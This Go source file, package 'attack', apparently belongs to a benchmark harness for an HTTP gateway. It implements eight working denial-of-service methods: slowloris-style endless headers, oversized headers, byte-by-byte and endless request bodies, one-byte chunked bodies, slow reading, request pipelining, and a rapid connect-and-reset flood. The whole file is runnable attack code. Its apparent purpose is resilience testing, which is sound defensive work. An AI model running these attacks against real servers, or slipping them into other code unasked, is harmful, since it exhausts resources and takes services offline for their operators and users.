//go:build linux

package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// kind is a way to do harm with one connection.
type kind struct {
	name string
	run  func(ctx context.Context, c *net.TCPConn, address string) // until the gateway or ctx ends it
}

var kinds = []kind{
	{"slow-heads", slowHead},
	{"large-heads", largeHead},
	{"slow-bodies", slowBody},
	{"slow-readers", slowReader},
	{"tiny-chunks", tinyChunks},
	{"fast-bodies", fastBody},
	{"pipelines", pipeline},
	{"floods", flood},
}

// Names lists the attacks.
func Names() []string {
	names := make([]string, len(kinds))
	for i, k := range kinds {
		names[i] = k.name
	}
	return names
}

// drip writes a text again and again, and waits between, as long as the other side takes it.
func drip(ctx context.Context, c net.Conn, text string, pause time.Duration) {
	tick := time.NewTicker(pause)
	defer tick.Stop()
	gone := make(chan struct{})
	go func() { // ends with the connection
		defer close(gone)
		_, _ = io.Copy(io.Discard, c)
	}()
	for {
		select {
		case <-ctx.Done():
			return
		case <-gone:
			return
		case <-tick.C:
		}
		if _, err := io.WriteString(c, text); err != nil {
			return
		}
	}
}

// slowHead sends a head that never ends, field by field.
func slowHead(ctx context.Context, c *net.TCPConn, _ string) {
	if _, err := io.WriteString(c, "GET /1k HTTP/1.1\r\nHost: bench\r\n"); err == nil {
		drip(ctx, c, "X-A: b\r\n", time.Second)
	}
}

// largeHead sends nearly as much of a head as may be, and stops.
func largeHead(ctx context.Context, c *net.TCPConn, _ string) {
	if _, err := io.WriteString(c, "GET /1k HTTP/1.1\r\nHost: bench\r\n"+strings.Repeat("X-A: "+strings.Repeat("b", 1000)+"\r\n", 60)); err == nil {
		drip(ctx, c, "X", time.Second)
	}
}

// slowBody sends a body byte by byte.
func slowBody(ctx context.Context, c *net.TCPConn, _ string) {
	if _, err := io.WriteString(c, "POST /upload HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n"); err == nil {
		drip(ctx, c, "b", time.Second)
	}
}

// slowReader asks for much and takes a little of it now and then.
func slowReader(ctx context.Context, c *net.TCPConn, _ string) {
	_ = c.SetReadBuffer(4 << 10)
	if _, err := io.WriteString(c, "GET /1m HTTP/1.1\r\nHost: bench\r\n\r\n"); err != nil {
		return
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for buf := make([]byte, 100); ; {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		if _, err := c.Read(buf); err != nil {
			return
		}
	}
}

// tinyChunks sends a body in chunks of one byte as fast as they are taken.
func tinyChunks(ctx context.Context, c *net.TCPConn, _ string) {
	pour(ctx, c, "POST /upload HTTP/1.1\r\nHost: bench\r\nTransfer-Encoding: chunked\r\n\r\n", strings.Repeat("1\r\nb\r\n", 2000))
}

// fastBody sends a body without end as fast as it is taken.
func fastBody(ctx context.Context, c *net.TCPConn, _ string) {
	pour(ctx, c, "POST /upload HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000000000\r\n\r\n", strings.Repeat("b", 64<<10))
}

// pour writes a text again and again after another one.
func pour(ctx context.Context, c net.Conn, first, text string) {
	_, err := io.WriteString(c, first)
	for err == nil && ctx.Err() == nil {
		_, err = io.WriteString(c, text)
	}
}

// pipeline sends requests without waiting for answers, as fast as they are taken.
func pipeline(ctx context.Context, c *net.TCPConn, _ string) {
	go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
	pour(ctx, c, "", strings.Repeat("GET /1k HTTP/1.1\r\nHost: bench\r\n\r\n", 200))
}

// flood opens connections and closes them with a reset, one after the other.
func flood(ctx context.Context, c *net.TCPConn, address string) {
	for ctx.Err() == nil {
		_, _ = fmt.Fprint(c, "GET")
		_ = c.SetLinger(0)
		_ = c.Close()
		next, err := net.Dial("tcp4", address)
		if err != nil {
			return
		}
		c = next.(*net.TCPConn)
		time.Sleep(10 * time.Millisecond)
	}
	_ = c.Close()
}
